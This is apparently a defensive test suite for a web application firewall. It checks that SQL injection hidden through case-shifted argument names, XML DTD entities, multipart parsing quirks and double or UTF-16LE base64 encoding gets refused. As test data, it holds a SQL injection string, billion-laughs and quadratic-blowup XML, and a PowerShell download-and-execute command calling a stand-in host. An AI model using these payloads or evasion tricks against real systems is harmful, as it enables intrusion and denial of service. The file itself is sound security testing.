// WAF evasion, fifth round (docs/security.md, "Session 27 WAF evasion audit"): rule exclusions by
// argument name against names a backend reads apart, XML with an internal DTD subset, multipart
// parts as Rack 3.1 reads them, base64 decoded twice or as UTF-16LE (`--extra-rules base64`). Real gateways on loopback with the
// in-process WAF (CRS PL1), a recording upstream, exact bytes over a socket. Every probe was also
// sent to nginx + ModSecurity 3.0.9 with the same CRS and the same exclusions, and the multipart
// bodies to Rack 3.1.22's parser (its lib run under Debian's Ruby 3.1) and Rack 2.2.
// needs-data: crs (test/select.ts leaves this file out, loudly, where the data is missing)
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { leakedProbes, probeRequest as req, startProbeGateway as start, wafConfig as config } from '../../helpers/waf-probes.ts';
import { startUpstream, type TestUpstream } from '../../helpers/upstream.ts';

const union = "1' UNION SELECT password FROM users--";
const enc = encodeURIComponent;
const FORM = 'Content-Type: application/x-www-form-urlencoded';
const MP = 'Content-Type: multipart/form-data; boundary=BND';
const part = (name: string, content: string): string => ['--BND', `Content-Disposition: form-data; name="${name}"`, '', content, '--BND--', ''].join('\r\n');

/** Fields the operator excluded from the SQLi rules, in the three forms operators write: a ctl
 * (as `sentinel-waf tune` writes it) on `a` and the cookie `c`, SecRuleUpdateTargetByTag on `b`. */
const EXCLUSIONS = [
  'SecRule REQUEST_FILENAME "@beginsWith /" "id:10100,phase:1,pass,nolog,t:none,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:a,ctl:ruleRemoveTargetByTag=attack-sqli;REQUEST_COOKIES:c"',
  'SecRuleUpdateTargetByTag attack-sqli "!ARGS:b"',
  '',
].join('\n');

/** The SQLi under an argument named `name` (query, form, multipart; a JSON key is `json.<name>`). */
function carrying(name: string): [string, Buffer][] {
  return [
    [`query ${name}`, req('GET', `/x?${name}=${enc(union)}`, [])],
    [`form ${name}`, req('POST', '/x', [FORM], `${name}=${enc(union)}`)],
    [`multipart ${name}`, req('POST', '/x', [MP], part(name, union))],
  ];
}

const XML = 'Content-Type: application/xml';

describe('WAF evasion, fifth round', () => {
  let upstream: TestUpstream;
  let excluded: { port: number; close: () => Promise<void> };
  let strict: { port: number; close: () => Promise<void> };
  let base64: { port: number; close: () => Promise<void> };
  const tmp = mkdtempSync(join(tmpdir(), 'waf-evasion-5-'));

  before(async () => {
    upstream = await startUpstream();
    const file = join(tmp, 'exclusions.conf');
    writeFileSync(file, EXCLUSIONS);
    excluded = await start(config(upstream.address, `exclusions-file "${file}"`));
    strict = await start(config(upstream.address, ''));
    base64 = await start(config(upstream.address, 'extra-rules "base64"'));
  });

  after(async () => {
    await excluded?.close();
    await strict?.close();
    await base64?.close();
    await upstream?.close();
    rmSync(tmp, { recursive: true, force: true });
  });

  test('the exclusions work as meant: `a`, `b` and the cookie `c` carry SQL', async () => {
    const probes: [string, Buffer][] = [...carrying('a'), ...carrying('b'), ['cookie c', req('GET', '/x', [`Cookie: c=${enc(union)}`])]];
    const leaked = await leakedProbes(excluded.port, upstream, probes);
    assert.deepEqual(leaked, probes.map(([name]) => `${name}: 200 (forwarded)`));
  });

  test('an exclusion by name does not skip the name in another case (PHP, werkzeug, Rack, Express, Go read `A` apart from `a`)', async () => {
    // forwarded (200) before: an excluded key matched without case; ModSecurity 3 refuses all (403)
    const probes: [string, Buffer][] = [
      ...carrying('A'),
      ...carrying('B'),
      ['cookie C', req('GET', '/x', [`Cookie: C=${enc(union)}`])],
    ];
    assert.deepEqual(await leakedProbes(excluded.port, upstream, probes), []);
  });

  test('XML with an internal DTD subset: benign documents with entities are read', async () => {
    // 400 before for every document referring to an entity (ModSecurity: 200, and 403 for the attack)
    const benign: [string, Buffer][] = [
      ['an entity', req('POST', '/x', [XML], '<!DOCTYPE r [<!ENTITY company "Example &amp; Co">]><r><q>&company; order 7</q></r>')],
      ['an entity in an attribute', req('POST', '/x', [XML], '<!DOCTYPE r [<!ENTITY v "1.0">]><r version="&v;"><q>x</q></r>')],
    ];
    for (const [name, bytes] of benign) {
      const seen = upstream.seen.length;
      assert.deepEqual(await leakedProbes(strict.port, upstream, [[name, bytes]]), [`${name}: 200 (forwarded)`]);
      assert.equal(upstream.seen.length, seen + 1, name);
    }
  });

  test('XML with an internal DTD subset: attacks in entities or ATTLIST defaults and expansion blowups are refused', async () => {
    const laughs = ['<!ENTITY a "aaaaaaaaaa">'];
    for (let i = 1; i < 8; i++) laughs.push(`<!ENTITY ${'abcdefgh'[i]} "${`&${'abcdefgh'[i - 1]};`.repeat(10)}">`);
    assert.deepEqual(
      await leakedProbes(strict.port, upstream, [
        ['the attack in an entity', req('POST', '/x', [XML], `<!DOCTYPE r [<!ENTITY e "${union}">]><r><q>&e;</q></r>`)],
        ['the attack split across entities', req('POST', '/x', [XML], `<!DOCTYPE r [<!ENTITY u "UNI"><!ENTITY v "&u;ON">]><r><q>1' &v; SELECT password FROM users--</q></r>`)],
        // forwarded (200) before, as by ModSecurity: expat (Python's ElementTree) and Java's DOM give
        // the element this attribute; the WAF read no ATTLIST
        ['the attack as an ATTLIST default', req('POST', '/x', [XML], `<!DOCTYPE r [<!ATTLIST q id CDATA "${union}">]><r><q>x</q></r>`)],
        ['billion laughs', req('POST', '/x', [XML], `<!DOCTYPE r [${laughs.join('')}]><r>&h;</r>`)],
        ['quadratic blowup', req('POST', '/x', [XML], `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(20_000)}">]><r>${'&a;'.repeat(10_000)}</r>`)],
        ['a parameter entity reference', req('POST', '/x', [XML], `<!DOCTYPE r [<!ENTITY % p '<!ENTITY e "${union}">'> %p; <!ENTITY e 'ok'>]><r>&e;</r>`)],
      ]),
      [],
    );
  });

  test('multipart: a part Rack 3.1 reads as another field (a Content-Disposition over 1,536 bytes, past 16 parameters, `NAME=`)', async () => {
    const pad = 'x'.repeat(1600);
    const raw = (headers: string[]): string => ['--BND', ...headers, '', union, '--BND--', ''].join('\r\n');
    const many = Array.from({ length: 16 }, (_, i) => `x${i}=1`).join('; ');
    // forwarded (200) before, with the CRS as shipped: a file to the WAF (and to ModSecurity, 200:
    // the CRS never reads a file), the field `q` (or `text/plain`) to a Rails or Sinatra application
    assert.deepEqual(
      await leakedProbes(strict.port, upstream, [
        ['a long file name and Content-ID: q (Rack 3.1: the field q)', req('POST', '/x', [MP], raw([`Content-Disposition: form-data; name="a"; filename="${pad}.txt"`, 'Content-ID: q']))],
        ['a long file name alone (Rack 3.1: the field text/plain[])', req('POST', '/x', [MP], raw([`Content-Disposition: form-data; name="a"; filename="${pad}.txt"`]))],
      ]),
      [],
    );
    // forwarded (200) before with ARGS:a excluded: `a` to the WAF, another name to Rack 3.1
    assert.deepEqual(
      await leakedProbes(excluded.port, upstream, [
        ['a long Content-Disposition and Content-ID: q', req('POST', '/x', [MP], raw([`Content-Disposition: form-data; name="a"; x="${pad}"`, 'Content-ID: q']))],
        ['name after 16 parameters (Rack 3.1: text/plain[])', req('POST', '/x', [MP], raw([`Content-Disposition: form-data; ${many}; name="a"`]))],
        ['NAME= (Rack 3.1: text/plain[])', req('POST', '/x', [MP], raw(['Content-Disposition: form-data; NAME="a"']))],
      ]),
      [],
    );
  });

  test('extra-rules "base64": base64 decoded twice or as UTF-16LE (PowerShell -EncodedCommand) is read; benign tokens pass', async () => {
    const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');
    const le = (s: string): Buffer => Buffer.from(s, 'utf16le');
    // forwarded (200) before: the set decoded one layer, as UTF-8 (the CRS and ModSecurity decode none)
    assert.deepEqual(
      await leakedProbes(base64.port, upstream, [
        ['base64 of base64', req('GET', `/x?data=${enc(b64(b64(union)))}`, [])],
        ['UTF-16LE base64', req('GET', `/x?data=${enc(b64(le(union)))}`, [])],
        ['PowerShell -EncodedCommand', req('GET', `/x?c=${enc(b64(le("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")))}`, [])],
      ]),
      [],
    );
    const jwt = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    const benign: [string, Buffer][] = [
      ['base64 of base64 of a sentence', req('GET', `/x?a=${enc(b64(b64('Meet me at the station at 5 pm, bring the tickets.')))}`, [])],
      ['UTF-16LE base64 of a sentence', req('GET', `/x?a=${enc(b64(le('Quarterly report, final version (2)')))}`, [])],
      ['a JWT, a PNG and a UUID', req('GET', `/x?img=${enc(png)}&id=${b64('123e4567-e89b-12d3-a456-426614174000')}`, [`Authorization: Bearer ${jwt}`])],
    ];
    for (const [name, bytes] of benign) assert.deepEqual(await leakedProbes(base64.port, upstream, [[name, bytes]]), [`${name}: 200 (forwarded)`]);
  });
});
